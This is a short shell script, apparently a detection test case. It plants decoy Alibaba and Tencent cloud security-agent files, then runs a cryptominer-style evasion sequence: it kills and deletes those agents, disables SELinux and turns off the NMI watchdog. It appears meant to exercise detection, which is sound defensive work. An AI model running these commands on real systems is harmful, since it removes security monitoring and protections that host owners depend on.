#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/local/aegis/aegis_client /usr/local/qcloud/stargate /etc/init.d
cp /bin/sleep /usr/local/aegis/aegis_client/AliYunDun
/usr/local/aegis/aegis_client/AliYunDun 60 & guard=$!
touch /usr/local/qcloud/stargate/sgagent /etc/init.d/aegis
sleep 0.3
if ps aux | grep -i '[a]liyun'; then
    pkill AliYunDun; pkill AliYunDunUpdate || true; pkill aegis || true
    rm -rf /etc/init.d/aegis /usr/sbin/aliyun* /usr/local/aegis* /etc/systemd/system/aliyun.service
fi
if test -d /usr/local/qcloud; then rm -rf /usr/local/qcloud /usr/local/sa; fi
setenforce 0 2>/dev/null || true
echo SELINUX=disabled >/etc/selinux.config
sysctl kernel.nmi_watchdog=0 >/dev/null 2>&1 || true
wait $guard || true
test ! -e /usr/local/aegis
took_place
